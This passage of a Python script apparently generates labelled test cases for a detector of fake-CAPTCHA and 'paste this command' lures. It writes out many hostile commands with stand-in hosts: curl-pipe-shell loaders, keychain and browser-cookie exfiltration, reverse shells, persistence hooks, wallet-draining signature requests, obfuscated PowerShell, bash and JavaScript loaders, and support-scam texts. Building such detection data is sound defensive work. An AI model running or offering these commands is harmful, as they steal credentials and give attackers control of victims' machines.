        'nohup bash -c "$(curl -fsSL https://am12h.brambling-sh.invalid/s)" >/dev/null 2>&1 &',
    ),
    (
        "mac-launchctl-load-plist",
        "https://www.macos-battery-optimizer.test/",
        "curl -so ~/Library/LaunchAgents/com.apple.batteryd.plist https://am12i.chaffinch-mac.invalid/b.plist && launchctl load -w ~/Library/LaunchAgents/com.apple.batteryd.plist",
    ),
    (
        "mac-keychain-dump-exfil",
        "https://icloud-quota-exceeded.example/fix",
        "security dump-keychain -d ~/Library/Keychains/login.keychain-db | curl -s -X POST --data-binary @- https://am12j.bunting-drop.invalid/k",
    ),
    (
        "mac-printf-hex-sh",
        "https://verify.human-macos.test/step",
        f"printf '{esc_hex('curl -s https://am12k.yellowhammer.invalid/p|sh')}' | sh",
    ),
    (
        "mac-spctl-disable-then-open",
        "https://www.final-cut-free.example/mac",
        "sudo spctl --master-disable && curl -sLo /tmp/FCP.dmg https://am12l.citril-dmg.invalid/fcp.dmg && hdiutil attach /tmp/FCP.dmg",
    ),
    (
        "mac-tcc-reset-and-run",
        "https://zoom-mac-audio-repair.test/",
        "tccutil reset Microphone && curl -fsSL https://am12m.accentor-fix.invalid/mic | bash",
    ),
    (
        "mac-osascript-display-dialog-password",
        "https://www.macos-patchdesk.example/14",
        'osascript -e \'set p to text returned of (display dialog "macOS needs your password to finish the update" default answer "" with hidden answer)\' -e \'do shell script "curl -s -d pw=" & p & " https://am12n.dunnock-up.invalid/p"\'',
    ),
    (
        "mac-curl-gunzip-bash",
        "https://captcha-macos.turnstile-vrfy.test/",
        "curl -s https://am12o.wagtail-gz.invalid/x.gz | gunzip | bash",
    ),
    (
        "mac-swift-interpreter-fetch",
        "https://dev.xcode-plugin-free.example/",
        'swift -e \'import Foundation; let d = try! Data(contentsOf: URL(string: "https://am12p.pipit-swift.invalid/s")!); let t = Process(); t.launchPath = "/bin/sh"; t.arguments = ["-c", String(data: d, encoding: .utf8)!]; t.launch()\'',
    ),
    (
        "mac-sqlite-cookies-exfil",
        "https://chrome-mac-sync-fix.test/",
        "sqlite3 ~/Library/Application\\ Support/Google/Chrome/Default/Cookies 'select host_key,name,encrypted_value from cookies' | curl -s --data-binary @- https://am12q.fieldfare-exf.invalid/c",
    ),
    (
        "mac-zip-notes-exfil",
        "https://www.icloud-notes-recovery.example/",
        "zip -qr /tmp/n.zip ~/Library/Group\\ Containers/group.com.apple.notes && curl -sF f=@/tmp/n.zip https://am12r.redwing-up.invalid/u",
    ),
    (
        "mac-bash-process-sub",
        "https://get-arc-browser-mac.test/",
        "bash <(curl -fsSL https://am12s.ouzel-arc.invalid/install)",
    ),
    (
        "mac-base64-D-dash-decode-long",
        "https://verification.cf-mac-check.example/",
        f'/bin/zsh -c "$(echo {b64("curl -fsSL https://am12t.wheatear-mac.invalid/z | zsh")} | base64 -D)"',
    ),
    (
        "mac-curl-k-insecure-pipe",
        "https://www.obs-studio-mac-free.test/",
        "curl -kfsSL https://198.51.100.143/obs_mac.sh | bash",
    ),
    (
        "mac-defaults-write-loginhook",
        "https://mac-speedup-tool.example/",
        "curl -so /Users/Shared/.u.sh https://am12u.stonechat-hk.invalid/u.sh && sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.u.sh",
    ),
    (
        "mac-fake-brew-tap-eval",
        "https://homebrew-cask-mirror.test/install",
        'eval "$(curl -fsSL https://am12v.whitethroat-brew.invalid/brew-setup)"',
        "flagged",
    ),
    (
        "mac-git-clone-postinstall",
        "https://jobs.web3-founders-hiring.example/task",
        "git clone https://am12w.blackcap-git.invalid/defi-dashboard.git && cd defi-dashboard && npm install && npm run dev",
        "flagged",
    ),
    (
        "mac-pbpaste-eval-second",
        "https://captcha.apple-verify-device.test/",
        'curl -s https://am12x.chiffchaff-cb.invalid/c | pbcopy && eval "$(pbpaste)"',
    ),
]:
    mac(technique, source, text, *expect)

# --- Linux lures --------------------------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect=expect, platform="linux")


for technique, source, text, *expect in [
    (
        "linux-curl-sudo-tee-cron",
        "https://verify.ubuntu-captcha-check.test/",
        "curl -s https://lx12a.pratincole-cron.invalid/c | sudo tee /etc/cron.d/sysupd >/dev/null",
    ),
    (
        "linux-bashrc-append-curl",
        "https://fix.steamdeck-controller.example/",
        "echo 'curl -s https://lx12b.skylark-rc.invalid/r | bash >/dev/null 2>&1 &' >> ~/.bashrc && source ~/.bashrc",
    ),
    (
        "linux-docker-privileged-host-mount",
        "https://kube-dashboard-quickfix.test/",
        "docker run --rm --privileged -v /:/host lx12c.nightjar-reg.invalid/toolbox:latest chroot /host sh -c 'curl -s https://lx12c.nightjar-reg.invalid/k | sh'",
    ),
    (
        "linux-wget-busybox-sh",
        "https://router-firmware-fix.example/",
        "cd /tmp; busybox wget http://203.0.113.189/fw.sh -O- | sh",
    ),
    (
        "linux-python3-dash-stdin",
        "https://captcha-linux.human-check.test/",
        "curl -fsSL https://lx12d.hoopoe-py.invalid/p.py | python3 -",
    ),
    (
        "linux-ssh-key-append-curl",
        "https://support.vps-panel-recovery.example/",
        "mkdir -p ~/.ssh && curl -s https://lx12e.wryneck-keys.invalid/k.pub >> ~/.ssh/authorized_keys",
    ),
    (
        "linux-chmod-tmp-setsid",
        "https://gpu-driver-linux-free.test/",
        "wget -q https://lx12f.roller-bin.invalid/nvd -O /dev/shm/.nvd && chmod +x /dev/shm/.nvd && setsid /dev/shm/.nvd >/dev/null 2>&1",
    ),
    (
        "linux-socat-exec-shell",
        "https://debug.remote-support-linux.example/",
        "socat TCP:198.51.100.221:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
    ),
    (
        "linux-systemd-system-unit-sudo",
        "https://www.proxmox-backup-free.test/",
        "sudo bash -c 'curl -so /etc/systemd/system/pbs-agent.service https://lx12g.sunbird-svc.invalid/u && systemctl enable --now pbs-agent'",
    ),
    (
        "linux-xmrig-pool-nohup",
        "https://mining-pool-linux-setup.example/",
        "curl -sL https://lx12h.swiftlet-mine.invalid/x.tgz | tar xz -C /tmp && nohup /tmp/x/xmrig -o stratum+tcp://pool12.treecreeper-pool.invalid:3333 -u 4B12wallet >/dev/null 2>&1 &",
    ),
    (
        "linux-npm-global-typo-pkg",
        "https://hiring.node-devs-remote.test/task",
        "sudo npm install -g https://lx12i.waxwing-npm.invalid/eslint-config-fixer-2.1.0.tgz",
    ),
    (
        "linux-bash-dev-tcp-read",
        "https://fix.wifi-driver-ubuntu.example/",
        "exec 3<>/dev/tcp/203.0.113.146/80; echo -e 'GET /s HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^\\r$/d' <&3 | bash",
    ),
    (
        "linux-curl-sudo-sh-plain",
        "https://wine-linux-gaming-pack.test/",
        "curl -fsSL https://lx12j.grosbeak-wine.invalid/install | sudo sh",
        "flagged",
    ),
]:
    nix(technique, source, text, *expect)

# --- browser console -------------------------------------------------------------------------------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect=expect, platform="any")


for technique, source, text, *expect in [
    (
        "console-webpack-chunk-token-exfil",
        "https://discord-nitro-giveaway-2026.test/verify",
        "let t;webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const k in r.c){const e=r.c[k].exports;if(e?.default?.getToken)t=e.default.getToken()}}]);fetch('https://cs12a.lorikeet-hook.invalid/t',{method:'POST',body:t})",
    ),
    (
        "console-script-element-assign",
        "https://instagram-blue-badge.example/apply",
        "document.body.appendChild(Object.assign(document.createElement('script'),{src:'https://cs12b.cockatiel-js.invalid/badge.js'}))",
    ),
    (
        "console-function-await-fetch",
        "https://free-robux-generator.test/claim",
        "(async()=>Function(await (await fetch('https://cs12c.budgie-gen.invalid/g.js')).text())())()",
    ),
    (
        "console-localstorage-post-json",
        "https://telegram-web-unlock.example/",
        "fetch('https://cs12d.rosella-drop.invalid/s',{method:'POST',body:JSON.stringify(Object.assign({},localStorage))})",
    ),
    (
        "console-indexeddb-dump",
        "https://whatsapp-web-backup.test/restore",
        "indexedDB.open('wawc').onsuccess=e=>{const s=e.target.result.transaction('user').objectStore('user').getAll();s.onsuccess=()=>fetch('https://cs12e.galah-db.invalid/w',{method:'POST',body:JSON.stringify(s.result)})}",
    ),
    (
        "console-wallet-add-chain-rpc",
        "https://airdrop-claim-layer2.example/",
        "ethereum.request({method:'wallet_addEthereumChain',params:[{chainId:'0x1',chainName:'Ethereum',rpcUrls:['https://cs12f.kakapo-rpc.invalid'],nativeCurrency:{name:'ETH',symbol:'ETH',decimals:18}}]})",
    ),
    (
        "console-set-approval-for-all",
        "https://nft-mint-free-pass.test/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x00000000000000000000000000000000000c0112',data:'0xa22cb465000000000000000000000000000000000000000000000000000000000000beef0000000000000000000000000000000000000000000000000000000000000001'}]})",
    ),
    (
        "console-eth-sign-raw-hash",
        "https://wallet-verify-ownership.example/",
        "ethereum.request({method:'eth_sign',params:[ethereum.selectedAddress,'0x8f0c0f2ad9b7c71e2a6b5c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f']})",
    ),
    (
        "console-solana-sign-transaction",
        "https://phantom-airdrop-claim.test/",
        "const r=await fetch('https://cs12g.kea-sol.invalid/tx');const tx=solanaWeb3.Transaction.from(new Uint8Array(await r.arrayBuffer()));await window.solana.signAndSendTransaction(tx)",
    ),
    (
        "console-cookie-websocket",
        "https://fb-pagerecovery-appeal.example/",
        "const w=new WebSocket('wss://cs12h.corella-ws.invalid/c');w.onopen=()=>w.send(document.cookie+'|'+location.host)",
    ),
    (
        "console-eval-atob-var",
        "https://youtube-premium-free.test/activate",
        "var p='"
        + b64("fetch('https://cs12i.lory-yt.invalid/y').then(r=>r.text()).then(eval)")
        + "';eval(atob(p))",
    ),
    (
        "console-new-function-xhr",
        "https://steam-gift-card-claim.example/",
        "var x=new XMLHttpRequest();x.open('GET','https://cs12j.cockatoo-gift.invalid/s.js',false);x.send();new Function(x.responseText)()",
    ),
    (
        "console-settimeout-string-fetch",
        "https://roblox-limited-dupe.test/",
        "setTimeout(\"fetch('https://cs12k.parakeet-dupe.invalid/d').then(r=>r.text()).then(t=>eval(t))\",500)",
    ),
    (
        "console-permit2-typed-data",
        "https://uniswap-rewards-claim.example/",
        "ethereum.request({method:'eth_signTypedData_v4',params:[ethereum.selectedAddress,JSON.stringify({domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},primaryType:'PermitSingle',types:{PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},message:{details:{token:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',amount:'1461501637330902918203684832716283019655932542975',expiration:'281474976710655',nonce:'0'},spender:'0x00000000000000000000000000000000000c0113',sigDeadline:'281474976710655'}})]})",
    ),
    (
        "console-self-xss-follow-bot",
        "https://tiktok-followers-boost.test/",
        "import('https://cs12l.conure-boost.invalid/boost.mjs').then(m=>m.run(document.cookie))",
    ),
]:
    con(technique, source, text, *expect)

# --- URL-only lures (what the page tells the victim to paste into the Run box) ------------------------

for technique, source, text in [
    (
        "url-hta-hex-ip",
        "https://verify.clean-captcha.example/",
        f"http://{ip_hex('192.0.2.233')}/v.hta",
    ),
    (
        "url-webdav-exe-runbox",
        "https://open.secure-doc-share.test/",
        "\\\\ul12a.tattler-dav.invalid@SSL\\DavWWWRoot\\DocViewer.exe",
    ),
    (
        "url-ms-appinstaller-runbox",
        "https://teams-addin-install.example/",
        "ms-appinstaller:?source=https://ul12b.yellowlegs-pkg.invalid/TeamsAddin.appinstaller",
    ),
    (
        "url-search-ms-subquery",
        "https://find.invoice-search-portal.test/",
        "search-ms:displayname=Invoices&crumb=location:\\\\203.0.113.158@80\\inv",
    ),
]:
    lure(technique, RUN, source, text)

# --- (b) commands as IOC files and reports list them: no page ---------------------------------------

for technique, text, target, platform in [
    (
        "ioc-irm-iex-ip-port",
        'powershell -w h -c "irm http://198.51.100.226:8080/a | iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-iex-iwr-bare-host",
        "powershell iex (iwr io12a.brolga-c2.invalid/s -UseBasicParsing)",
        RUN,
        "windows",
    ),
    (
        "ioc-webclient-downloadstring-http",
        "powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://io12b.jabiru-c2.invalid/d')\"",
        RUN,
        "windows",
    ),
    (
        "ioc-encoded-downloadfile-start",
        "powershell -enc "
        + b64_utf16(
            '(New-Object Net.WebClient).DownloadFile(\'https://io12c.marabou-c2.invalid/p.exe\',"$env:TEMP\\p.exe");Start-Process "$env:TEMP\\p.exe"'
        ),
        RUN,
        "windows",
    ),
    (
        "ioc-mshta-https-path",
        "mshta.exe https://io12d.shoebill-c2.invalid/gate/index.hta",
        RUN,
        "windows",
    ),
    ("ioc-mshta-ip-port-no-scheme-ext", "mshta http://203.0.113.197:8443/q", RUN, "windows"),
    (
        "ioc-msiexec-http-qn",
        "msiexec /i http://io12e.hamerkop-c2.invalid/u.msi /qn",
        RUN,
        "windows",
    ),
    (
        "ioc-rundll32-davclnt-open-url",
        "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie io12f.openbill-dav.invalid@SSL https://io12f.openbill-dav.invalid/s/p.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-kongtuke-js-php-ps",
        "powershell -w h -c \"$r=irm 'https://io12g.limpkin-tds.invalid/js.php?device=win&ref=4412';iex $r\"",
        RUN,
        "windows",
    ),
    (
        "ioc-netsupport-zip-client32",
        'powershell -w h -c "iwr https://io12h.seriema-rat.invalid/ns.zip -o $env:APPDATA\\ns.zip; Expand-Archive $env:APPDATA\\ns.zip $env:APPDATA\\ns -Force; saps $env:APPDATA\\ns\\client32.exe"',
        RUN,
        "windows",
    ),
    (
        "ioc-lumma-mshta-start-min-hidden",
        'cmd /c start /min "" mshta https://io12i.trumpeter-lm.invalid/l.mp4',
        RUN,
        "windows",
    ),
    (
        "ioc-castleloader-curl-pipe-ps",
        "cmd /c curl -s https://io12j.screamer-cl.invalid/c | powershell -nop -",
        RUN,
        "windows",
    ),
    (
        "ioc-latrodectus-msiexec-appdata",
        'powershell -c "iwr https://io12k.kagu-lt.invalid/v.msi -o $env:APPDATA\\v.msi; msiexec /i $env:APPDATA\\v.msi /qn"',
        RUN,
        "windows",
    ),
    (
        "ioc-certutil-decode-b64-exe",
        "certutil -urlcache -f https://io12l.sunbittern-c2.invalid/e.b64 %TEMP%\\e.b64 & certutil -decode %TEMP%\\e.b64 %TEMP%\\e.exe & %TEMP%\\e.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-bitsadmin-addfile-resume",
        "bitsadmin /create j12 & bitsadmin /addfile j12 https://io12m.finfoot-c2.invalid/u.exe %TEMP%\\u.exe & bitsadmin /resume j12",
        RUN,
        "windows",
    ),
    (
        "ioc-wscript-webdav-vbs",
        "wscript //B \\\\io12n.trogon-dav.invalid@SSL\\DavWWWRoot\\a.vbs",
        RUN,
        "windows",
    ),
    (
        "ioc-regsvr32-scrobj-http",
        "regsvr32 /s /n /u /i:http://192.0.2.248/s.sct scrobj.dll",
        RUN,
        "windows",
    ),
    (
        "ioc-net-use-webdav-start",
        "net use \\\\io12o.motmot-dav.invalid@SSL\\DavWWWRoot & start \\\\io12o.motmot-dav.invalid@SSL\\DavWWWRoot\\r.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-conhost-headless-mshta",
        "conhost --headless mshta https://io12p.jacamar-c2.invalid/h",
        RUN,
        "windows",
    ),
    (
        "ioc-etherhiding-eth-call-bsc",
        'powershell -w h -c "$b=\'{\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"eth_call\\",\\"params\\":[{\\"to\\":\\"0x00000000000000000000000000000000000c0114\\",\\"data\\":\\"0x6d4ce63c\\"},\\"latest\\"],\\"id\\":1}\';$r=irm https://io12q.puffbird-rpc.invalid -Method Post -Body $b -ContentType \'application/json\';iex ([Text.Encoding]::UTF8.GetString([Convert]::FromHexString($r.result.Substring(130))))"',
        RUN,
        "windows",
    ),
    (
        "ioc-syncappv-vbs-new",
        'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;(irm https://io12r.barbet-c2.invalid/a)|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-darkgate-autoit-curl-pair",
        "cmd /c mkdir C:\\tmpx & cd /d C:\\tmpx & curl -s https://io12s.toucan-dg.invalid/Autoit3.exe -o Autoit3.exe & curl -s https://io12s.toucan-dg.invalid/s.a3x -o s.a3x & Autoit3.exe s.a3x",
        RUN,
        "windows",
    ),
    (
        "ioc-vidar-saps-hidden",
        "powershell -c \"saps -WindowStyle Hidden powershell -ArgumentList '-c irm https://io12t.honeyguide-vd.invalid/v|iex'\"",
        RUN,
        "windows",
    ),
    (
        "ioc-nslookup-iex-powershell",
        'powershell -c "iex ((nslookup -q=txt io12u.woodhoopoe-ns.invalid 203.0.113.209)[-1])"',
        RUN,
        "windows",
    ),
    (
        "ioc-add-appxpackage-msix",
        'powershell -c "Add-AppxPackage https://io12v.hornbill-pkg.invalid/app.msix"',
        RUN,
        "windows",
    ),
    (
        "ioc-forfiles-pcalua-chain",
        'forfiles /p C:\\Windows\\System32 /m calc.exe /c "cmd /c mshta https://io12w.ground-roller.invalid/f"',
        RUN,
        "windows",
    ),
    (
        "ioc-explorer-webdav-exe",
        "\\\\io12x.cuckooroller-dav.invalid@SSL\\DavWWWRoot\\Update.exe",
        EXP,
        "windows",
    ),
    (
        "ioc-wmic-process-create-ps",
        'wmic process call create "powershell -w h -c irm https://io12y.trogon-wm.invalid/w|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-schtasks-onlogon-ps",
        'schtasks /create /tn OneDriveSyncTask /sc onlogon /tr "powershell -w h -c irm https://io12z.quetzal-st.invalid/s|iex" /f',
        RUN,
        "windows",
    ),
    (
        "ioc-reflective-assembly-load",
        'powershell -c "[Reflection.Assembly]::Load((iwr https://io13a.manakin-asm.invalid/a.dll).Content).EntryPoint.Invoke($null,$null)"',
        RUN,
        "windows",
    ),
    (
        "ioc-mac-curl-bash-amos",
        "curl -fsSL https://io13b.cotinga-amos.invalid/install.sh | bash",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-osascript-curl",
        "curl -s https://io13c.bellbird-ody.invalid/a | osascript",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-base64-bash-odyssey",
        f'echo "{b64("curl -s http://198.51.100.152/o | zsh")}" | base64 -d | bash',
        TERM,
        "macos",
    ),
    (
        "ioc-mac-curl-o-chmod-run",
        "curl -o /tmp/update https://io13d.fruitcrow-mac.invalid/update && chmod +x /tmp/update && /tmp/update",
        TERM,
        "macos",
    ),
    ("ioc-linux-wget-sh-ip", "wget -qO- http://192.0.2.217/l.sh | sh", TERM, "linux"),
    (
        "ioc-linux-curl-sudo-bash",
        "curl -fsSL https://io13e.antpitta-lx.invalid/i | sudo bash",
        TERM,
        "linux",
    ),
    ("ioc-linux-nc-e-shell", "nc -e /bin/sh 203.0.113.237 9001", TERM, "linux"),
    (
        "ioc-linux-python-urlopen-exec",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://io13f.tapaculo-py.invalid/p').read())\"",
        TERM,
        "linux",
    ),
    (
        "ioc-mshta-javascript-getobject",
        "mshta \"javascript:GetObject('script:https://io13g.ovenbird-sct.invalid/s.sct');close()\"",
        RUN,
        "windows",
    ),
    ("ioc-decimal-ip-mshta", f"mshta http://{ip_int('198.51.100.163')}/d", RUN, "windows"),
    (
        "ioc-curl-exe-public-start",
        "curl.exe -sko C:\\Users\\Public\\svc.exe https://io13h.woodcreeper-c2.invalid/svc.exe && start C:\\Users\\Public\\svc.exe",
        RUN,
        "windows",
    ),
    ("ioc-hh-remote-chm", "hh.exe https://io13i.treerunner-chm.invalid/help.chm", RUN, "windows"),
]:
    ioc(technique, text, target, platform)

# --- (c) fixture-style obfuscations ------------------------------------------------------------------

OB_PAGES = [
    "https://www.segelschule-wattenmeer.test/kurse",
    "https://www.atelier-de-poterie.example/stages",
    "https://verify.robot-or-human.test/",
    "https://www.clinica-veterinaria-sol.example/citas",
]
OU = "https://ob12.wattle-obf.invalid/q"
SU = "https://ob12b.bulbul-sh.invalid/s"
JSU = "https://ob12c.minivet-js.invalid/j"
IWR = f"iwr {OU}|iex"
CMDPOOL = "abcdefghijklmnopqrstuvwxyz.:/-0123456789 "
OBFUSCATED = [
    # PowerShell
    (
        "ps-concat-url-vars",
        RUN,
        "powershell -c \"$a='https://ob12';$b='.wattle-obf.invalid/q';iex(irm ($a+$b))\"",
    ),
    ("ps-format-whole-command", RUN, f'powershell -c "iex {ps_format(f"irm {OU}", 4)} | iex"'),
    (
        "ps-char-array-join",
        RUN,
        'powershell -c "iex (-join [char[]](' + char_codes(f"irm {OU}") + ')) | iex"',
    ),
    (
        "ps-b64-url-only",
        RUN,
        f"powershell -c \"iex(irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(OU)}'))))\"",
    ),
    (
        "ps-reverse-string-join",
        RUN,
        f"powershell -c \"iex (-join ('{IWR[::-1]}'[-1..-{len(IWR)}]))\"",
    ),
    (
        "ps-replace-chained-junk",
        RUN,
        "powershell -c \"iex ('i#r#m# https://ob12.wattle-obf.invalid/q'.Replace('#','')) | iex\"",
    ),
    (
        "ps-backtick-cmdlet",
        RUN,
        f'powershell -c "I`nv`oke-`Exp`ression (I`nv`oke-`Rest`Method {OU})"',
    ),
    ("ps-gcm-wildcard-both", RUN, f'powershell -c "& (gcm i*e-r*d) {OU} | & (gcm i*e-e*n)"'),
    ("ps-get-alias-ir-m", RUN, f'powershell -c "& (Get-Alias i?m) {OU} | & (Get-Alias i?x)"'),
    (
        "ps-xor-bytes-key",
        RUN,
        'powershell -c "$k=0x2A;iex (-join (('
        + xor_codes(f"irm {OU}|iex", 0x2A)
        + ')|%{[char]($_ -bxor $k)}))"',
    ),
    (
        "ps-hex-pairs-convert",
        RUN,
        f"powershell -c \"$h='{hex_str(f'irm {OU}|iex')}';iex (-join ($h -split '(..)' | ? {{$_}} | % {{[char][Convert]::ToByte($_,16)}}))\"",
    ),
    (
        "ps-gzip-b64-stream",
        RUN,
        f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip_b64(f'irm {OU}|iex')}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    ),
    (
        "ps-env-comspec-letters",
        RUN,
        f"powershell -c \"&($env:ComSpec[4,15,25]-join'') (irm {OU})\"",
    ),
    (
        "ps-invoke-command-scriptblock-create",
        RUN,
        f'powershell -c "Invoke-Command ([scriptblock]::Create((irm {OU})))"',
    ),
    ("ps-set-alias-custom", RUN, f'powershell -c "Set-Alias z Invoke-Expression; z (irm {OU})"'),
    (
        "ps-executioncontext-invokecommand",
        RUN,
        f'powershell -c "$ExecutionContext.InvokeCommand.InvokeScript((irm {OU}))"',
    ),
    ("ps-concat-pieces-url", RUN, f'powershell -c "iex (irm {ps_concat(OU, 6)})"'),
    # cmd
    ("cmd-caret-powershell", RUN, carets("powershell") + f' -c "irm {OU}|iex"'),
    (
        "cmd-set-slices-powershell",
        RUN,
        'cmd /v:on /c "set p='
        + CMDPOOL
        + "&& call "
        + cmd_slice("powershell", CMDPOOL, "p")
        + f' -c irm {OU}^|iex"',
    ),
    ("cmd-quote-insertion-mshta", RUN, 'm"s"h"t"a https://ob12d.crombec-hta.invalid/h'),
    ("cmd-empty-var-word-split", RUN, f'cmd /c "p%Z%ow%Z%ers%Z%hell -c irm {OU}^|iex"'),
    ("cmd-for-f-delims-run", RUN, f"cmd /c for /f \"tokens=*\" %a in ('curl -s {SU}') do %a"),
    (
        "cmd-set-var-call-mshta",
        RUN,
        'cmd /c "set x=msh&& set y=ta&& call %x%%y% https://ob12e.apalis-hta.invalid/c"',
    ),
    (
        "cmd-double-caret-curl",
        RUN,
        "c^^url -s https://ob12f.eremomela-dl.invalid/b.bat -o %TEMP%\\b.bat & %TEMP%\\b.bat",
    ),
    # bash
    ("bash-ansi-c-hex", TERM, f"bash -c $'{esc_hex(f'curl -s {SU}|sh')}'"),
    ("bash-var-indirection", TERM, f"a=cu;b=rl;c=ba;d=sh; ${{a}}${{b}} -s {SU} | ${{c}}${{d}}"),
    ("bash-printf-octal-eval", TERM, f"eval \"$(printf '{esc_oct(f'curl -s {SU}|sh')}')\""),
    ("bash-rev-pipe-sh", TERM, f"echo '{f'curl -s {SU}|sh'[::-1]}' | rev | sh"),
    ("bash-xxd-revert", TERM, f"echo {hex_str(f'curl -s {SU}|sh')} | xxd -r -p | sh"),
    ("bash-ifs-spaces", TERM, f"curl${{IFS}}-s${{IFS}}{SU}|sh"),
    (
        "bash-rot13-tr",
        TERM,
        "echo '"
        + codecs.encode(f"curl -s {SU}|sh", "rot13")
        + "' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    ),
    (
        "bash-base32-decode",
        TERM,
        "echo "
        + __import__("base64").b32encode(f"curl -s {SU}|sh".encode()).decode()
        + " | base32 -d | sh",
    ),
    # JavaScript (console)
    (
        "js-window-bracket-eval-atob",
        CON,
        "window['ev'+'al'](atob('" + b64(f"fetch('{JSU}').then(r=>r.text()).then(eval)") + "'))",
    ),
    (
        "js-fromcharcode-function",
        CON,
        "Function(String.fromCharCode(" + char_codes(f"import('{JSU}')") + "))()",
    ),
    (
        "js-constructor-constructor",
        CON,
        f"[]['filter']['constructor'](\"fetch('{JSU}').then(r=>r.text()).then(eval)\")()",
    ),
    (
        "js-hex-escaped-eval",
        CON,
        "this['\\x65\\x76\\x61\\x6c'](\""
        + js_hex("fetch('" + JSU + "').then(r=>r.text()).then(eval)")
        + '")',
    ),
    (
        "js-split-reverse-join-eval",
        CON,
        "eval('" + f"import('{JSU}')"[::-1] + "'.split('').reverse().join(''))",
    ),
    (
        "js-unicode-escape-function",
        CON,
        "new Function('\\u0066\\u0065\\u0074\\u0063\\u0068(\""
        + JSU
        + "\").then(r=>r.text()).then(eval)')()",
    ),
    (
        "js-globalthis-reflect-apply",
        CON,
        f"Reflect.apply(globalThis['e'+'val'],null,[\"fetch('{JSU}').then(r=>r.text()).then(t=>eval(t))\"])",
    ),
    (
        "js-decodeuri-component-eval",
        CON,
        "eval(decodeURIComponent('"
        + "".join(f"%{b:02X}" for b in f"import('{JSU}')".encode())
        + "'))",
    ),
]
for i, (technique, target, text) in enumerate(OBFUSCATED):
    platform = {RUN: "windows", TERM: "any", CON: "any"}[target]
    if i % 4 == 3:  # a quarter as fixtures list them, with no page
        ioc(technique, text, target, platform)
    else:
        lure(technique, target, OB_PAGES[i % len(OB_PAGES)], text, platform=platform)

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes ---------------------

SCAM = "support-scam"
for lang, source, text in [
    (
        "en",
        "https://alert.windows-defender-lock.test/",
        "WINDOWS DEFENDER - SECURITY WARNING\nAccess to this PC has been blocked for security reasons.\nThreat detected: Trojan:Win32/Wacatac.B!ml\nDo not restart your computer. Call Microsoft Support immediately: +1 (555) 014-2291 (toll free)",
    ),
    (
        "de",
        "https://warnung.pc-gesperrt-hilfe.example/",
        "Ihr Computer wurde gesperrt!\nVerdächtige Aktivitäten wurden erkannt: Ihre Bankdaten könnten gestohlen werden.\nSchließen Sie dieses Fenster nicht. Rufen Sie den Microsoft-Support an: +49 555 0188 4410",
    ),
    (
        "fr",
        "https://alerte.securite-ordinateur.test/",
        "ALERTE DE SÉCURITÉ : votre ordinateur est infecté par 5 virus.\nVos mots de passe et vos photos sont en danger.\nAppelez immédiatement le support technique au +33 5 55 01 47 22 pour débloquer votre appareil.",
    ),
    (
        "es",
        "https://aviso.soporte-equipo-bloqueado.example/",
        "Su equipo ha sido bloqueado por actividad sospechosa.\nCódigo de error: #DW6VB36\nLlame al soporte técnico de Windows al +34 555 019 882 para evitar la pérdida de sus datos.",
    ),
    (
        "it",
        "https://avviso.computer-bloccato.test/",
        "Il tuo computer è stato bloccato. È stato rilevato uno spyware.\nNon spegnere il computer e chiama subito l'assistenza Microsoft: +39 555 012 3398",
    ),
    (
        "pt",
        "https://alerta.computador-infectado.example/",
        "O seu computador foi bloqueado devido a atividade suspeita.\nLigue agora para o suporte técnico da Microsoft: +55 11 5550-2917\nNão desligue o computador.",
    ),
    (
        "nl",
        "https://waarschuwing.pc-vergrendeld-hulp.test/",
        "Uw computer is geblokkeerd vanwege een virusinfectie.\nBel direct Microsoft Ondersteuning op +31 20 555 0164 om uw bestanden te beschermen.",
    ),
    (
        "pl",
        "https://ostrzezenie.pc-blokada-alarm.example/",
        "Twój komputer został zablokowany! Wykryto wirusa Trojan.Spyware.\nZadzwoń natychmiast do pomocy technicznej Microsoft: +48 22 555 01 93",
    ),
    (
        "tr",
        "https://uyari.bilgisayar-kilitlendi.test/",
        "Bilgisayarınız güvenlik nedeniyle kilitlendi.\nVirüs tespit edildi. Hemen Microsoft Destek hattını arayın: +90 212 555 0147",
    ),
    (
        "ru",
        "https://preduprezhdenie.pc-zablokirovan.example/",
        "Ваш компьютер заблокирован из-за подозрительной активности.\nНе выключайте компьютер. Позвоните в службу поддержки Microsoft: +7 495 555-01-82",
    ),
    (
        "ja",
        "https://keikoku.pc-lock-support.test/",
        "お使いのコンピューターはウイルスに感染しています。\nこのウィンドウを閉じないでください。すぐにマイクロソフトサポートへお電話ください: 050-5550-1937",
    ),
    (
        "zh",
